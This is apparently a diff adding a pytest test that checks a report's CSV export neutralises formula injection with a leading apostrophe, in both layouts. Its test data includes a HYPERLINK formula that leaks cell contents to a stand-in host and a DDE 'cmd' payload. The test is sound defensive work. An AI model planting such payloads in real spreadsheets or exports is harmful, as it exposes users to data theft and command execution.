@@ -115,3 +115,25 @@ def test_no_cjk_font_fails_clearly(monkeypatch, tmp_path):
             charts.cjk_font()
     finally:
         charts.cjk_font.cache_clear()
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(lead):
+    """OWASP CSV injection: a name typed into the bundle as a formula must reach Excel or WPS
+    as text, with a leading apostrophe, in both layouts."""
+    from dataclasses import replace
+
+    evil = f"{lead}HYPERLINK(\"http://x.example/?\"&A1,\"孙立\")"
+    persons = [replace(p, name=evil) if p.person_id == "P1" else p for p in BUNDLE.persons]
+    officers = [replace(o, name=f"{lead}cmd|' /C calc'!A0") if o.officer_id == "o-e1" else o
+                for o in BUNDLE.officers]
+    s = compute_summary(records(), replace(BUNDLE, persons=persons, officers=officers),
+                        START, END, version_times=VERSION_TIMES)
+    for layout in ("sections", "alerts"):
+        cells = [c for row in csv.reader(io.StringIO(render(s, "csv", "zh", csv_layout=layout)[1:]))
+                 for c in row]
+        assert f"'{evil}" in cells, layout
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
+    rows = list(csv.reader(io.StringIO(render(s, "csv", "zh")[1:])))
+    assert any(r[:1] == [f"'{lead}cmd|' /C calc'!A0"] for r in rows)  # the load table's officer
+
